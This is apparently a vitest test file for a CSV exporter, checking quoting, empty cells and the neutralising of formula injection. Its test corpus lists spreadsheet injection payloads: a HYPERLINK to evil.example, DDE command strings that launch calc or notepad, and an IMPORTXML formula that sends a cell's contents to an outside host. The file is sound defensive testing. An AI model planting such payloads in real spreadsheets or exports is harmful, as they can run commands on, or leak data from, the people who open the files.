import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { neutraliseCell, toCsv } from "./csv.ts";

type Row = { name: string | null; note?: string; cents?: number | null };

const columns = [
  { header: "Name", value: (r: Row) => r.name },
  { header: "Note", value: (r: Row) => r.note },
  { header: "Amount (cents)", value: (r: Row) => r.cents },
] as const;

/** What a spreadsheet would read back: the cells, unquoted. */
function cellsOf(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { newline: "\r\n", skipEmptyLines: true }).data;
}

describe("toCsv", () => {
  it("writes a header row and one row per record, CRLF-separated", () => {
    const csv = toCsv([{ name: "Ada", note: "first", cents: 1200 }], columns);
    expect(csv).toBe("Name,Note,Amount (cents)\r\nAda,first,1200\r\n");
  });

  it("writes only the header when there are no rows", () => {
    expect(toCsv([], columns)).toBe("Name,Note,Amount (cents)\r\n");
  });

  it("quotes commas, quotes and line breaks so every cell survives a round trip", () => {
    const tricky = ['Smith, "Jo"', "line one\nline two", "crlf\r\ninside", " padded "];
    const csv = toCsv(
      tricky.map((name) => ({ name })),
      [{ header: "Name", value: (r: Row) => r.name }],
    );
    expect(
      cellsOf(csv)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(tricky);
  });

  it("writes null, undefined and non-finite numbers as empty cells", () => {
    const csv = toCsv(
      [
        { name: null, note: undefined, cents: null },
        { name: "x", cents: Number.NaN },
        { name: "y", cents: Number.NEGATIVE_INFINITY },
      ],
      columns,
    );
    expect(cellsOf(csv).slice(1)).toEqual([
      ["", "", ""],
      ["x", "", ""],
      ["y", "", ""],
    ]);
  });

  describe("formula injection", () => {
    const corpus = [
      "=1+1",
      '=HYPERLINK("http://evil.example","click")',
      "+1-800-555-0100",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
      "=cmd|' /C notepad'!'A1'\nsecond line",
      '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
      "-",
      "=",
      "@",
    ];

    it.each(corpus)("prefixes %j with a single quote", (cell) => {
      const csv = toCsv([{ name: cell }], [{ header: "Name", value: (r: Row) => r.name }]);
      const [, [read]] = cellsOf(csv) as [string[], string[]];
      expect(read).toBe(`'${cell}`);
    });

    it("leaves ordinary text alone, including formula characters later in the cell", () => {
      for (const cell of ["Acme Ltd", "a=b", "user@example.com", "x-1", "1+1", "'quoted already", " =x", ""]) {
        expect(neutraliseCell(cell)).toBe(cell);
      }
    });

    it("writes numbers as numbers: a negative amount stays a number a spreadsheet can sum", () => {
      const csv = toCsv([{ name: "refund", cents: -1500 }], columns);
      expect(csv.split("\r\n")[1]).toBe("refund,,-1500");
    });

    it("treats the same characters given as text as text, and neutralises them", () => {
      const csv = toCsv([{ name: "-1500" }], [{ header: "Name", value: (r: Row) => r.name }]);
      expect(csv.split("\r\n")[1]).toBe("'-1500");
    });

    it("neutralises headers too", () => {
      expect(toCsv([], [{ header: "=Total", value: () => 1 }])).toBe("'=Total\r\n");
    });

    it("neutralises a formula cell that also needs quoting", () => {
      const csv = toCsv([{ name: '=HYPERLINK("a","b")' }], [{ header: "Name", value: (r: Row) => r.name }]);
      expect(csv.split("\r\n")[1]).toBe(`"'=HYPERLINK(""a"",""b"")"`);
    });
  });
});
